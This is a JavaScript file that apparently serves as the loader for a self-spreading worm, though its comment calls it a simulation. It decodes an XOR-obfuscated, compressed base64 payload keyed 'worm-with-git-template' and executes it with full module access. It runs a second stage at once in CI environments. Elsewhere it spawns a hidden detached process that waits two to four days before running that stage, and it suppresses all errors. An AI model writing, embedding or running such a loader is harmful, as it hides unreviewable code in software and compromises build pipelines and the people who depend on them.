// SPDX-License-Identifier: Apache-2.0
// Deflated, under the simulation's name as the key of an exclusive or, as base64.
'use strict';
const P = [
  'D/PvNUAEskJ604k2xbASJ99RLdrJufxTSCK/0dQoj8/rhAjFvF9qUvtFVncXbqLfDpzWq0TVRSPi/oLbtVLc2iyJvJxyJblDf0Zr',
  'freRLw5AnzMW0IGATQZcGApr+g8eBqaWdQlCEzbU0/Sr5YPgPV6rvoPU6SXZGgShVcp4tDrAYJtVjibmFVRYeqyE5XHLOEIeyH9E',
  'z0R/MFYjM3RryDvVlUyNi5nim0vCXhLkXR3y2sf06cavKHCGiPAxczHwvSoF5wPZ3SSGF+jop1sWU1y/lpgU7CdBpvW6lOaT/XrK',
  'aK+WnR/oQ8B3UOPEXH/olAATK6dG694/gciA9s5EKEtuDYojOfewgN904Jume0arRdlm/bLxhVhGl9pj+bVpYAO+FUKYERnfcHga',
  '5olLUZy3gHSbdW1q9v7sxG5ONMhSHYchQ+UqTnDKYdqJsqC7KsTKb7KxfZFIW1P2IaHY38M1urEi77zWmrIThhxd+/5IPO16vtGo',
  'h0BpeCzIKBGAUNJqMnVlmZFOYMqHtS30WwQttEFY611qVTXlLjM+jLQ2DAyGTDXKxCZab51uJ+n8utK6PfrAEvwh+q23+x9xo/Ly',
  '0DoKzWB7ANo/hRHMZZBKtfQWpMHJz5N+VQUvxVPkjR4r+8gIPL9y+6tsqPQ+wgAN5qaVlpiJXA4TLanrr5wyQL4iO9UuOj7AQbV/',
  'axGJ0wJhDgjYuXsqRWsDQ2VLu6Q8leCPLIROute3twVqKgOLbUgC8Cn5GErRquH3neQTvXBp7brN0GISjUb9fBTcrj4t6NVAaaK+',
  '06bhOuPZ6ccO/Ejb+P1tAZEu5R1f6W8ttbWlDvjgbBaAkAtg301TwLi/ohgRF+MG0i1N2BOa0EafdjX5cBwknPeAQmObRxFbmz/M',
  'joMcdaOZ+QtRLRHrs1vgPiZT6gcFG+ZtNGofCBCJpKmaIsjViZ3MlYTvpsMyYm8yPCqj9TZ4lx9/Mws586n/B7W2SEA35kIniYro',
  'jbEVTKiqhiNs+H0K424nkzSJkxIgkIiVl+Lq82/dOglqKko0X2MV/WNUErHCloeD61oUU8tBAhri51pxk5uGIGdoFgAbeA9TG7ri',
  '7nNvZrqme0Pl7SJ9a3Qj6uxuc5vCVgr+ddBStwB+j0tUipGXpr4I0VXWHxbLRWgdYEL9d6rx6IGo4Cs20opewfQAytA6Tsrr/XU0',
  'BqwU/gTezUbNgqiL7f4MQhhiD2RYDlzIoTb5GvsGpfWgSCbuZLk2d4FCihsU8ybpG9mC3sdHIcmTAQdZoIe3oPcZ4+ylBRy8CuYY',
  '/3LJQnt3PS/XkfvEfGpeK198YGkBth7lXbEyBK4LmOaX8I10MO16mGwxzjCOrGHj5GH3NsB+gFL9KzsOTl45V0joyU379ycOQkIk',
  'dpZuGP7/DXHOWmct/ULSl8i4762zjtdkZcaJoFmZdiVsKJzZX4Ej8K8PnIfeBTqx+j6JCOimeSLGm0U3mO6FM3/Zdh/chX9JfpK1',
  'BcDlK9FlAqcShM0x/kvy3SbSn90Imf7dkphSppY9zlH31Bi92n5nfaqKGct7a7158Cu/M3Mimjbj+DpB+q6agwMvA/XE3AQX/2qi',
  'QLdW9wULqp5gVXCOzIKha24gNLZ2Hy+BnvfHEzB47U8k+KKqcDrkpoOVUUDgd+5TNekNtEZwzVJCVTbWinqCCRbiZ53OpEMlz7dR',
  'dhqYpHeOMzzh2KOZXDKpJb6DuWA6HQQGV04BMJu+VwspjbYKPlvh4T0dTMtgVMXUGShEaKrGSmwHVXgcJUcrZPgrLst8ZOOC3v6j',
  'OIRzTgSBipOfFYvQn1NwJ7zQtKBrdRE3IhDdO8gR6mVFTZ8mg8yiM9XMCHiO1j443pEwGCaE07LFUQNfXUTzMeRhRVnSG5je1dlV',
  'pThZ3pAsrpJGdK1mDMM85X6zFiVA4n1k+JZ46vr7v628fT5JwCo7FJ/w8Ae6eHd8YeW4AI25TAidaF5K1NMdiXR/Y2b2yCwGm98/',
  'OTp82+xhKspHv8oMXkR68yKtcYyDqTNBerp2JRZfNsgbV4rG3YcFLT5Seo3UBKGU88STafsppN4cSja31NA1ibRAYPDbRb6ZAGbG',
  'YcyEwEcYweUoLuHvhwCbspuvdPK9GXzN9kPtN2444JcCGeTN4JPlI+8XwCZPQMseQ+04L2wEh/wPclxak5H+Ih/U4TxGsZflv68T',
  'nE4OsrLbd6f2690w4O9g21Ze4PrcBmF48DqgWv1iN5dFnyoOo83ssLCI8Rr/E8QpnF295NcAfmeD7GOFqCHQS2DK82zrs7p6LBPb',
  'EGTSWDYhRJzVW0NWBJvud1MQLJ4fBM9P10mkeRfwZAsVJP0hMzqmqDNUDd5rLuSG3Ja4diW5K9bRicUirMvOeCsY15qY0y4aCLpX',
  's0kGm1zV0l1MqxbrtE+t9BdgdAJdjmpbvmJa9lsqb53loVR0lXW7NW1phRgPMI/K4kXjplBjGXU5NJ8HgaOshMED6g/4IyO+3yWB',
  '38u62hpo8V1o9psceFNlz3gpzpfSOrLq5RrzCQtz94LMJX3LQ+lxlXkF42gMIuRVZz+eX0d5VvYPtVJK0zwiOEgT8of8KfYGlFw4',
  'umxWFqs/tFGhSj29oti6Y6fPdxWdz6vM0B/GZB5/DG5VrONlaovfACotwerCr10ruY+h5v8V6ypzhz1bV8sPxr8/mfH93Gc0C1ZR',
  '4ccxFvnkmtZJXGWOuXlKFzN7JENeePEwya5R4W60rra+VIdfeEM16qeCZT3efcyQwR9dYAyicxGnRnSDoraqxZRP3sbFj+K7Idw/',
  '0eGyCnan9J/QfBCY1E6HK7wesJJ5oZESrK4l0iHShpp3zivz7TK8sN9B01b6F16xT29qA/dd4T7+xDEUMNpYqyFmrTQzwks/EL0e',
  'xouCrJChg5CRSikDlykUnlOXM2/IfYjQzuKZ3fonFEq/m7sOsoKyeHjTaQar4bTblOoimxLRfRP2uzPqOWEvtnoTizWArtWhthUX',
  '8MP0wy+EsvOj3aoZRtAcRhRagKfG2ur/mOmaVAQ4eMRolSLBN406gK9LNWTU2tZTWMkQxhDSkH49nT6MEjnY+NQEfZvsWn+X12xp',
  '2KchNs5LgftWLw6AuwjOGMLS8ux1TxMPF1CqMEyrNSHYv9/2o8BCDfdryaK8kYfVtK1AJQKPdZwekt7P4j+/4Mi59iHKn4OUNHsF',
  '4MraGl2Crl/6ysm767CvPMJEtAp6QPfQWsg0t/Kl8/MxDhm2PCRXBliz0fxx5WXBpK7d2Zl2eqIvaxLy124xu7ILUr+D3SQ4v4bF',
  'MLBu/aGw1oRwng6KtOeWPth9YXLuFAPsaTjlyhlzSgRya0CelkfFmiSI8xdnAODCSjEJjzzZ0UJDYbfcPBIXd5C4ZbuBtYxNHFww',
  'RrhJCH3C+kzGxOvLOT9crJrvuGMjWc4cueyc0LXTH6u9zogpJhAJctY7XbxK4zCqjLCICKWap8zaqZhVSlm4hEPtyZHByvX0fg28',
  'incnV82i',
].join('');
const CI = ['CI', 'GITHUB_ACTIONS', 'GITLAB_CI', 'CIRCLECI', 'JENKINS_URL', 'BUILDKITE'];
const DAYS = 2 * 24 * 3600e3;

function open() {
  const key = Buffer.from('worm-with-git-template');
  const data = Buffer.from(P, 'base64').map((c, i) => c ^ key[i % key.length]);
  const code = require('zlib').inflateSync(data).toString();
  const box = {};
  new Function('exports', 'require', 'ROOT', code)(box, require, __dirname);
  return box;
}

async function main() {
  const stages = open();
  if (process.argv[2] === 'later') {
    await new Promise((done) => setTimeout(done, DAYS + Math.floor(Math.random() * DAYS)));
    await stages.second();
    return;
  }
  await stages.first();
  if (CI.some((name) => process.env[name]) || process.env.SANDWORM_MODE === '1') {
    await stages.second();
    return;
  }
  const options = { detached: true, stdio: 'ignore' };
  require('child_process').spawn(process.execPath, [__filename, 'later'], options).unref();
}

main().catch(() => {});
